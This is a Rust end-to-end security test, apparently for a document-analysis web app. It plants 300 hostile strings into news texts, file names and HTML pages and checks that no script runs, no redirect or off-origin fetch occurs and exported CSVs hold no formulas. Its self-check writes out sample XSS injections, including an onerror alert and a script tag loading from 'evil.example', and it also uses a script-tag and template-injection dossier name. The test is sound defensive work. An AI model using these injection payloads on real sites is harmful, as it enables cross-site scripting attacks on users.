//! Words of documents never run. 300 of them that would like to (`payloads.json`: scripts, handlers, addresses, what breaks out of attributes and
//! templates, what changes when it is read twice, bytes that are no letters, formulas, header lines), as text, headline, outlet, name of a speaker
//! and of a file; then in the address of pages. There is no dialog, nothing is set, no policy is broken, nothing is fetched from elsewhere.

use crate::driver::Browser;
use crate::screens::{at_home, reachable};
use crate::served::{Served, folder, run, run_with, serve};
use serde_json::json;
use std::path::PathBuf;

fn payloads() -> Vec<String> {
    serde_json::from_str(include_str!("payloads.json")).unwrap()
}

/// Documents that hold them everywhere.
fn documents() -> PathBuf {
    let folder = folder("hostile-texts");
    let line = |(i, p): (usize, &String)| {
        // No text has a zero byte: such a line is refused. All the rest of it is tried without, and in addresses with it.
        let p = &p.replace('\0', "");
        let text = format!(
            "Mr. {p} of the Harbour Council said on Tuesday that the {p} proposal was dead. “{p},” said Mara {p}, the minister. The Dock Union \
             rejected the second draft, according to {p}. {i} people of {p} left the port on Monday, the union said.\n\n{p}\n"
        );
        json!({"id": format!("{p} {i}"), "text": text, "title": p, "outlet": p, "url": p, "published": format!("2031-03-{:02}", i % 28 + 1)}).to_string() + "\n"
    };
    std::fs::write(folder.join("wire.jsonl"), payloads().iter().enumerate().map(line).collect::<String>()).unwrap();
    for (i, p) in payloads().iter().enumerate().step_by(5) {
        // What a file can be called at all.
        let name: String = p.chars().map(|c| if c == '/' { '∕' } else { c }).filter(|c| *c != '\0').take(60).collect();
        let p = p.replace('\0', "");
        std::fs::write(folder.join(format!("n{i} {name}.txt")), format!("The union said that {p} was no offer.\n")).unwrap();
        let page = format!(
            "<html><head><title>{p}</title></head><body><article><h1>{p}</h1><p>The council said on Monday that {p} was over.</p></article></body></html>"
        );
        std::fs::write(folder.join(format!("h{i} {name}.html")), page).unwrap();
    }
    folder
}

/// Everything bad that a page did.
fn done(browser: &Browser, served: &Served, place: &str) -> Vec<String> {
    const SEEN: &str = "return [window.ran ?? null, location.href]";
    let mut out = Vec::new();
    // Before a page with a dialog no script is run.
    let seen = browser.try_ask(SEEN).unwrap_or_else(|_| {
        let words = browser.dialog();
        out.push(format!("{place}: a dialog: {}", words.unwrap_or_default()));
        browser.ask(SEEN)
    });
    if seen[0] != json!(null) {
        out.push(format!("{place}: it ran"));
    }
    let here = seen[1].as_str().unwrap_or_default();
    if !here.starts_with(&served.origin) {
        out.push(format!("{place}: led to {here}"));
    }
    out
}

/// Everything bad that the browser noted since this was last asked; it names the page itself.
fn noted(browser: &Browser, served: &Served, place: &str) -> Vec<String> {
    let breaches = browser.complaints().into_iter().filter(|c| c.contains("Content Security Policy") || c.contains("Refused"));
    let mut out: Vec<String> = breaches.map(|c| format!("{place}: {c}")).collect();
    out.extend(browser.fetched_elsewhere(&served.origin).into_iter().map(|a| format!("{place}: fetched {a}")));
    out
}

fn harm(browser: &Browser, served: &Served, place: &str) -> Vec<String> {
    [done(browser, served, place), noted(browser, served, place)].concat()
}

fn encoded(words: &str) -> String {
    words.bytes().map(|b| if b.is_ascii_alphanumeric() { char::from(b).to_string() } else { format!("%{b:02X}") }).collect()
}

/// What is not seen when it happens would prove nothing when it is not seen.
#[test]
fn what_is_watched_for_is_seen() {
    let _one = crate::alone();
    let (browser, served) = at_home("watch");
    assert_eq!(harm(&browser, &served, "nothing happened"), [""; 0]);
    let happens = [
        ("setTimeout(() => alert(1), 0)", "a dialog"),
        ("window.ran = 1", "it ran"),
        ("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)>')", "Content Security Policy"),
        ("document.body.insertAdjacentHTML('beforeend', '<img src=\"data:image/svg+xml,<svg/>\">')", "Content Security Policy"),
        ("document.body.append(Object.assign(document.createElement('script'), {src: 'https://evil.example/x.js'}))", "Content Security Policy"),
        ("location = 'about:blank'", "led to"),
    ];
    for (script, sign) in happens {
        browser.goto(&format!("{}/", served.origin));
        browser.ask(script);
        std::thread::sleep(std::time::Duration::from_millis(500));
        let seen = harm(&browser, &served, script);
        assert!(seen.iter().any(|s| s.contains(sign)), "{script} is not seen: {seen:?}");
    }
}

#[test]
fn words_of_documents_never_run() {
    assert_eq!(payloads().len(), 300);
    let texts = documents();
    let dossier = folder("hostile").join("talks.dossier");
    let at = dossier.to_str().unwrap().to_owned();
    run(&["init", &at, "--name", "<script>alert(1)</script>\"'>{{7*7}}"], b"");
    // A page of nothing but markup holds no text, and is refused with a message; the others are taken.
    run_with(&["add", texts.to_str().unwrap(), "--dossier", &at], b"", &[0, 1]);
    let _one = crate::alone();
    let served = serve(&dossier);
    let browser = Browser::of_size("hostile", "640,400");
    browser.goto(&served.enter);
    let mut wrong = harm(&browser, &served, "the first page");

    for page in reachable(&browser, &served) {
        browser.goto(&page.address);
        wrong.extend(harm(&browser, &served, &page.address));
    }
    for (i, p) in payloads().iter().enumerate() {
        // The document that holds it, and the same words where a page takes them from its address.
        let id = encoded(&format!("{} {i}", p.replace('\0', "")));
        let words = encoded(p);
        let reflected = [
            format!("/search?words={words}"),
            format!("/matrix?as_of={words}&x={words}"),
            format!("/document?id={words}"),
            format!("/login?to={words}"),
            format!("/{words}"),
        ];
        let pages = [
            format!("/document?id={id}"),
            format!("/document?id={id}&item=s1"),
            format!("/review?document={id}&item=s1"),
            reflected[i % reflected.len()].clone(),
        ];
        for address in &pages {
            browser.goto(&format!("{}{address}", served.origin));
            wrong.extend(done(&browser, &served, address));
        }
        wrong.extend(noted(&browser, &served, &pages[0]));
    }
    assert!(wrong.is_empty(), "{} findings: {:#?}", wrong.len(), wrong.iter().take(20).collect::<Vec<_>>());

    // What is handed to a table program holds no formula.
    for table in ["overview", "matrix", "contested", "figures", "actors", "proposals", "timeline", "sources", "search"] {
        let text = browser.ask_later(
            "fetch(arguments[0]).then(r => r.ok ? r.text() : '').then(arguments[1])",
            &[format!("{}/{table}.csv?words=union", served.origin).into()],
        );
        let text = text.as_str().unwrap_or_default().to_owned();
        assert!(!text.is_empty(), "there is no {table}.csv");
        for row in csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text.as_bytes()).records() {
            for cell in row.unwrap().iter().filter(|c| c.parse::<f64>().is_err()) {
                assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{table}.csv holds {cell:?}");
            }
        }
    }
}
